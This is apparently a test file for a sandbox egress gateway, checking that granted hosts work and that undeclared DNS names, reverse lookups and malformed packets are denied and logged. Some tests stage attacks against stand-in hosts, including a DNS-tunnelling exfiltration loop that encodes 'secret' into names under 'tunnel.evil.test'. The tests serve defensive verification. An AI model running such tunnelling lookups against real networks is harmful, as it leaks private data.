// The gateway against real programs in a real network namespace, kept by the built holder. Every denial is both an
// effect (the program inside got nowhere) and a record (the log says why).
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { CannedUpstreams } from '../../src/sandbox/egress/canned-upstream.ts';
import { UNREADABLE_NAME } from '../../src/sandbox/egress/log.ts';
import { type Attempt, Netns, refusals } from '../kit/netns.ts';

const ENDPOINTS = [
  { host: 'api.example.com', ports: [443, 80] },
  { host: '*.wild.example.com', ports: [443] },
  { host: 'admin.example.com', ports: [8443] },
];

const UPSTREAMS: CannedUpstreams = new Map([
  [
    'api.example.com:443',
    [
      { path: '/', status: 200, headers: { 'content-type': 'text/plain' }, body: Buffer.from('the canned page') },
      { method: 'POST', path: '/upload', status: 201, headers: {}, body: Buffer.from('taken') },
      { path: '/search?q=a', status: 200, headers: {}, body: Buffer.from('one answer') },
    ],
  ],
  ['api.example.com:80', [{ path: '/', status: 200, headers: {}, body: Buffer.from('the plain page') }]],
  ['a.b.wild.example.com:443', [{ path: '/', status: 200, headers: {}, body: Buffer.from('far below') }]],
]);

let netns: Netns;

beforeAll(async () => {
  netns = await Netns.start();
});

afterAll(() => netns.close());

function attempt<T>(body: string): Promise<Attempt<T>> {
  return netns.attempt({ endpoints: ENDPOINTS, upstreams: UPSTREAMS }, body);
}

describe('what is granted', () => {
  test('works over HTTPS under an authority that only the sandbox trusts, by IPv4 and IPv6', async () => {
    const { result, log } = await attempt<string[]>(`
      done([await fetchPage('https://api.example.com/', { family: 4 }), await fetchPage('https://api.example.com/', { family: 6 })]);`);
    expect(result).toEqual(['200 the canned page', '200 the canned page']);
    expect(refusals(log)).toEqual([]);
    expect(log.connections).toMatchObject([{ host: 'api.example.com', port: 443, allowed: true, count: 2 }]);
    expect(log.connections[0]?.bytesOut).toBeGreaterThan(500);
    expect(log.connections[0]?.bytesIn).toBeGreaterThan(500);
    expect(log.requests).toEqual([
      { host: 'api.example.com', port: 443, method: 'GET', path: '/', status: 200, count: 2, bodyBytes: 0 },
    ]);
  });

  test('works over plain HTTP, and below a wildcard', async () => {
    const { result } = await attempt<string[]>(`
      done([await fetchPage('http://api.example.com/?any=query'), await fetchPage('https://a.b.wild.example.com/')]);`);
    expect(result).toEqual(['200 the plain page', '200 far below']);
  });

  test('counts the bodies of requests', async () => {
    const { result, log } = await attempt<string>(`
      done(await fetchPage('https://api.example.com/upload', { method: 'POST', body: Buffer.alloc(300000) }));`);
    expect(result).toBe('201 taken');
    expect(log.requests).toMatchObject([{ method: 'POST', path: '/upload', status: 201, bodyBytes: 300_000 }]);
    expect(log.connections[0]?.bytesOut).toBeGreaterThan(300_000);
  });

  test('answers 404 to what the scenario does not foresee, and says so', async () => {
    const { result, log } = await attempt<string[]>(`
      done([await fetchPage('https://api.example.com/nowhere'), await fetchPage('https://api.example.com/search?q=b')]);`);
    expect(result.map((each) => each.slice(0, 3))).toEqual(['404', '404']);
    expect(log.connections).toMatchObject([{ host: 'api.example.com', allowed: true, refusal: 'no-upstream' }]);
    expect(log.requests.map(({ path, status }) => [path, status])).toEqual([
      ['/nowhere', 404],
      ['/search?q=b', 404],
    ]);
  });

  test('a program that trusts only its own authorities is told apart from one that misbehaves', async () => {
    const { result, log } = await attempt<string>(
      `done(await fetchPage('https://api.example.com/', { ca: undefined }));`,
    );
    expect(result).toBe('UNABLE_TO_VERIFY_LEAF_SIGNATURE');
    expect(log.connections).toMatchObject([{ host: 'api.example.com', allowed: true, refusal: 'handshake' }]);
  });

  test('one holder serves one run after another, each with a log of its own', async () => {
    const first = await attempt<string>(`done(await addressOf('api.example.com'));`);
    const second = await attempt<string>(`done(await addressOf('x.wild.example.com'));`);
    expect(first.log.lookups.map(({ name }) => name)).toEqual(['api.example.com']);
    expect(second.log.lookups.map(({ name }) => name)).toEqual(['x.wild.example.com']);
  });
});

describe('names', () => {
  test('denies an undeclared name at once, and records it', async () => {
    const { result, log } = await attempt<{ code: string; ms: number }>(`
      const started = performance.now();
      done({ code: await addressOf('collect.evil.test', 0), ms: performance.now() - started });`);
    expect(result.code).toBe('ENOTFOUND');
    expect(result.ms).toBeLessThan(500);
    expect(log.lookups).toEqual([
      { name: 'collect.evil.test', type: 'A', answered: false, count: 1 },
      { name: 'collect.evil.test', type: 'AAAA', answered: false, count: 1 },
    ]);
  });

  test.each(['wild.example.com', 'example.com', 'localhost6', 'api', 'api.example.com.evil.test'])(
    'denies %s, which no grant covers',
    async (name) => {
      const { result, log } = await attempt<string>(`done(await addressOf('${name}'));`);
      expect(result).toBe('ENOTFOUND');
      expect(log.lookups).toMatchObject([{ name, answered: false }]);
    },
  );

  test('denies reverse lookups', async () => {
    const { result, log } = await attempt<string>(`dns.reverse('1.2.3.4', (error) => done(error.code));`);
    expect(result).toBe('ENOTFOUND');
    expect(log.lookups).toEqual([{ name: '4.3.2.1.in-addr.arpa', type: 'PTR', answered: false, count: 1 }]);
  });

  test('gives a granted name no record but its addresses', async () => {
    const { result, log } = await attempt<string[]>(`
      const ask = (type) => new Promise((resolve) => dns.resolve('api.example.com', type, (error, found) => resolve(error ? error.code : found)));
      done([await ask('TXT'), await ask('MX'), await ask('CNAME')]);`);
    expect(result).toEqual(['ENODATA', 'ENODATA', 'ENODATA']);
    expect(log.lookups.every(({ answered }) => answered)).toBe(true);
  });

  test('denies a name that carries data out, however often, in bounded memory', async () => {
    const { result, log } = await attempt<string[]>(`
      const ask = (name) => new Promise((resolve) => dns.resolve4(name, (error) => resolve(error ? error.code : 'answered')));
      const codes = new Set();
      for (let batch = 0; batch < 20; batch++) {
        const names = Array.from({ length: 100 }, (_, i) => 'c2VjcmV0'.repeat(6) + (batch * 100 + i) + '.tunnel.evil.test');
        for (const code of await Promise.all(names.map(ask))) codes.add(code);
      }
      done([...codes]);`);
    expect(result).toEqual(['ENOTFOUND']);
    expect(log.lookups).toHaveLength(1024);
    expect(log.omitted.lookups).toBe(2000 - 1024);
  });

  test('answers over TCP too, query after query, and records what is not one', async () => {
    const { result, log } = await attempt<number[]>(`
      const query = (name, id) => {
        const labels = name.split('.').map((label) => Buffer.concat([Buffer.from([label.length]), Buffer.from(label)]));
        const body = Buffer.concat([Buffer.from([0, id, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]), ...labels, Buffer.from([0, 0, 1, 0, 1])]);
        return Buffer.concat([Buffer.from([0, body.length]), body]);
      };
      const socket = net.connect(53, '10.0.0.53');
      socket.write(Buffer.concat([query('api.example.com', 1), query('evil.test', 2), Buffer.from([0, 12]), Buffer.alloc(12)]));
      let heard = Buffer.alloc(0);
      socket.on('data', (piece) => { heard = Buffer.concat([heard, piece]); });
      await sleep(300);
      const codes = [];
      for (let at = 0; at < heard.length; at += 2 + heard.readUInt16BE(at)) codes.push(heard[at + 5] & 15);
      socket.write(Buffer.from([0xff, 0xff]));
      socket.on('close', () => done(codes));`);
    expect(result).toEqual([0, 3, 1]);
    expect(log.lookups).toEqual([
      { name: UNREADABLE_NAME, type: '', answered: false, count: 2 },
      { name: 'api.example.com', type: 'A', answered: true, count: 1 },
      { name: 'evil.test', type: 'A', answered: false, count: 1 },
    ]);
  });

  test('records over TCP what was begun and is no whole message', async () => {
    const { log } = await attempt<string>(`
      const socket = net.connect(53, '10.0.0.53', () => socket.end(Buffer.from([0, 200, 1, 2, 3])));
      socket.on('close', () => done('closed')).resume();`);
    expect(log.lookups).toEqual([{ name: UNREADABLE_NAME, type: '', answered: false, count: 1 }]);
  });

  test('survives every kind of broken datagram', async () => {
    const { result, log } = await attempt<string>(`
      const socket = dgram.createSocket('udp4');
      const { randomBytes } = require('node:crypto');
      for (let i = 0; i < 500; i++) await new Promise((sent) => socket.send(randomBytes(1 + (i * 7) % 1400), 53, '10.0.0.53', sent));
      done(await addressOf('api.example.com'));`);
    expect(result).toBe('25.83.0.1');
    expect(log.lookups.some(({ name }) => name === UNREADABLE_NAME)).toBe(true);
  });
});
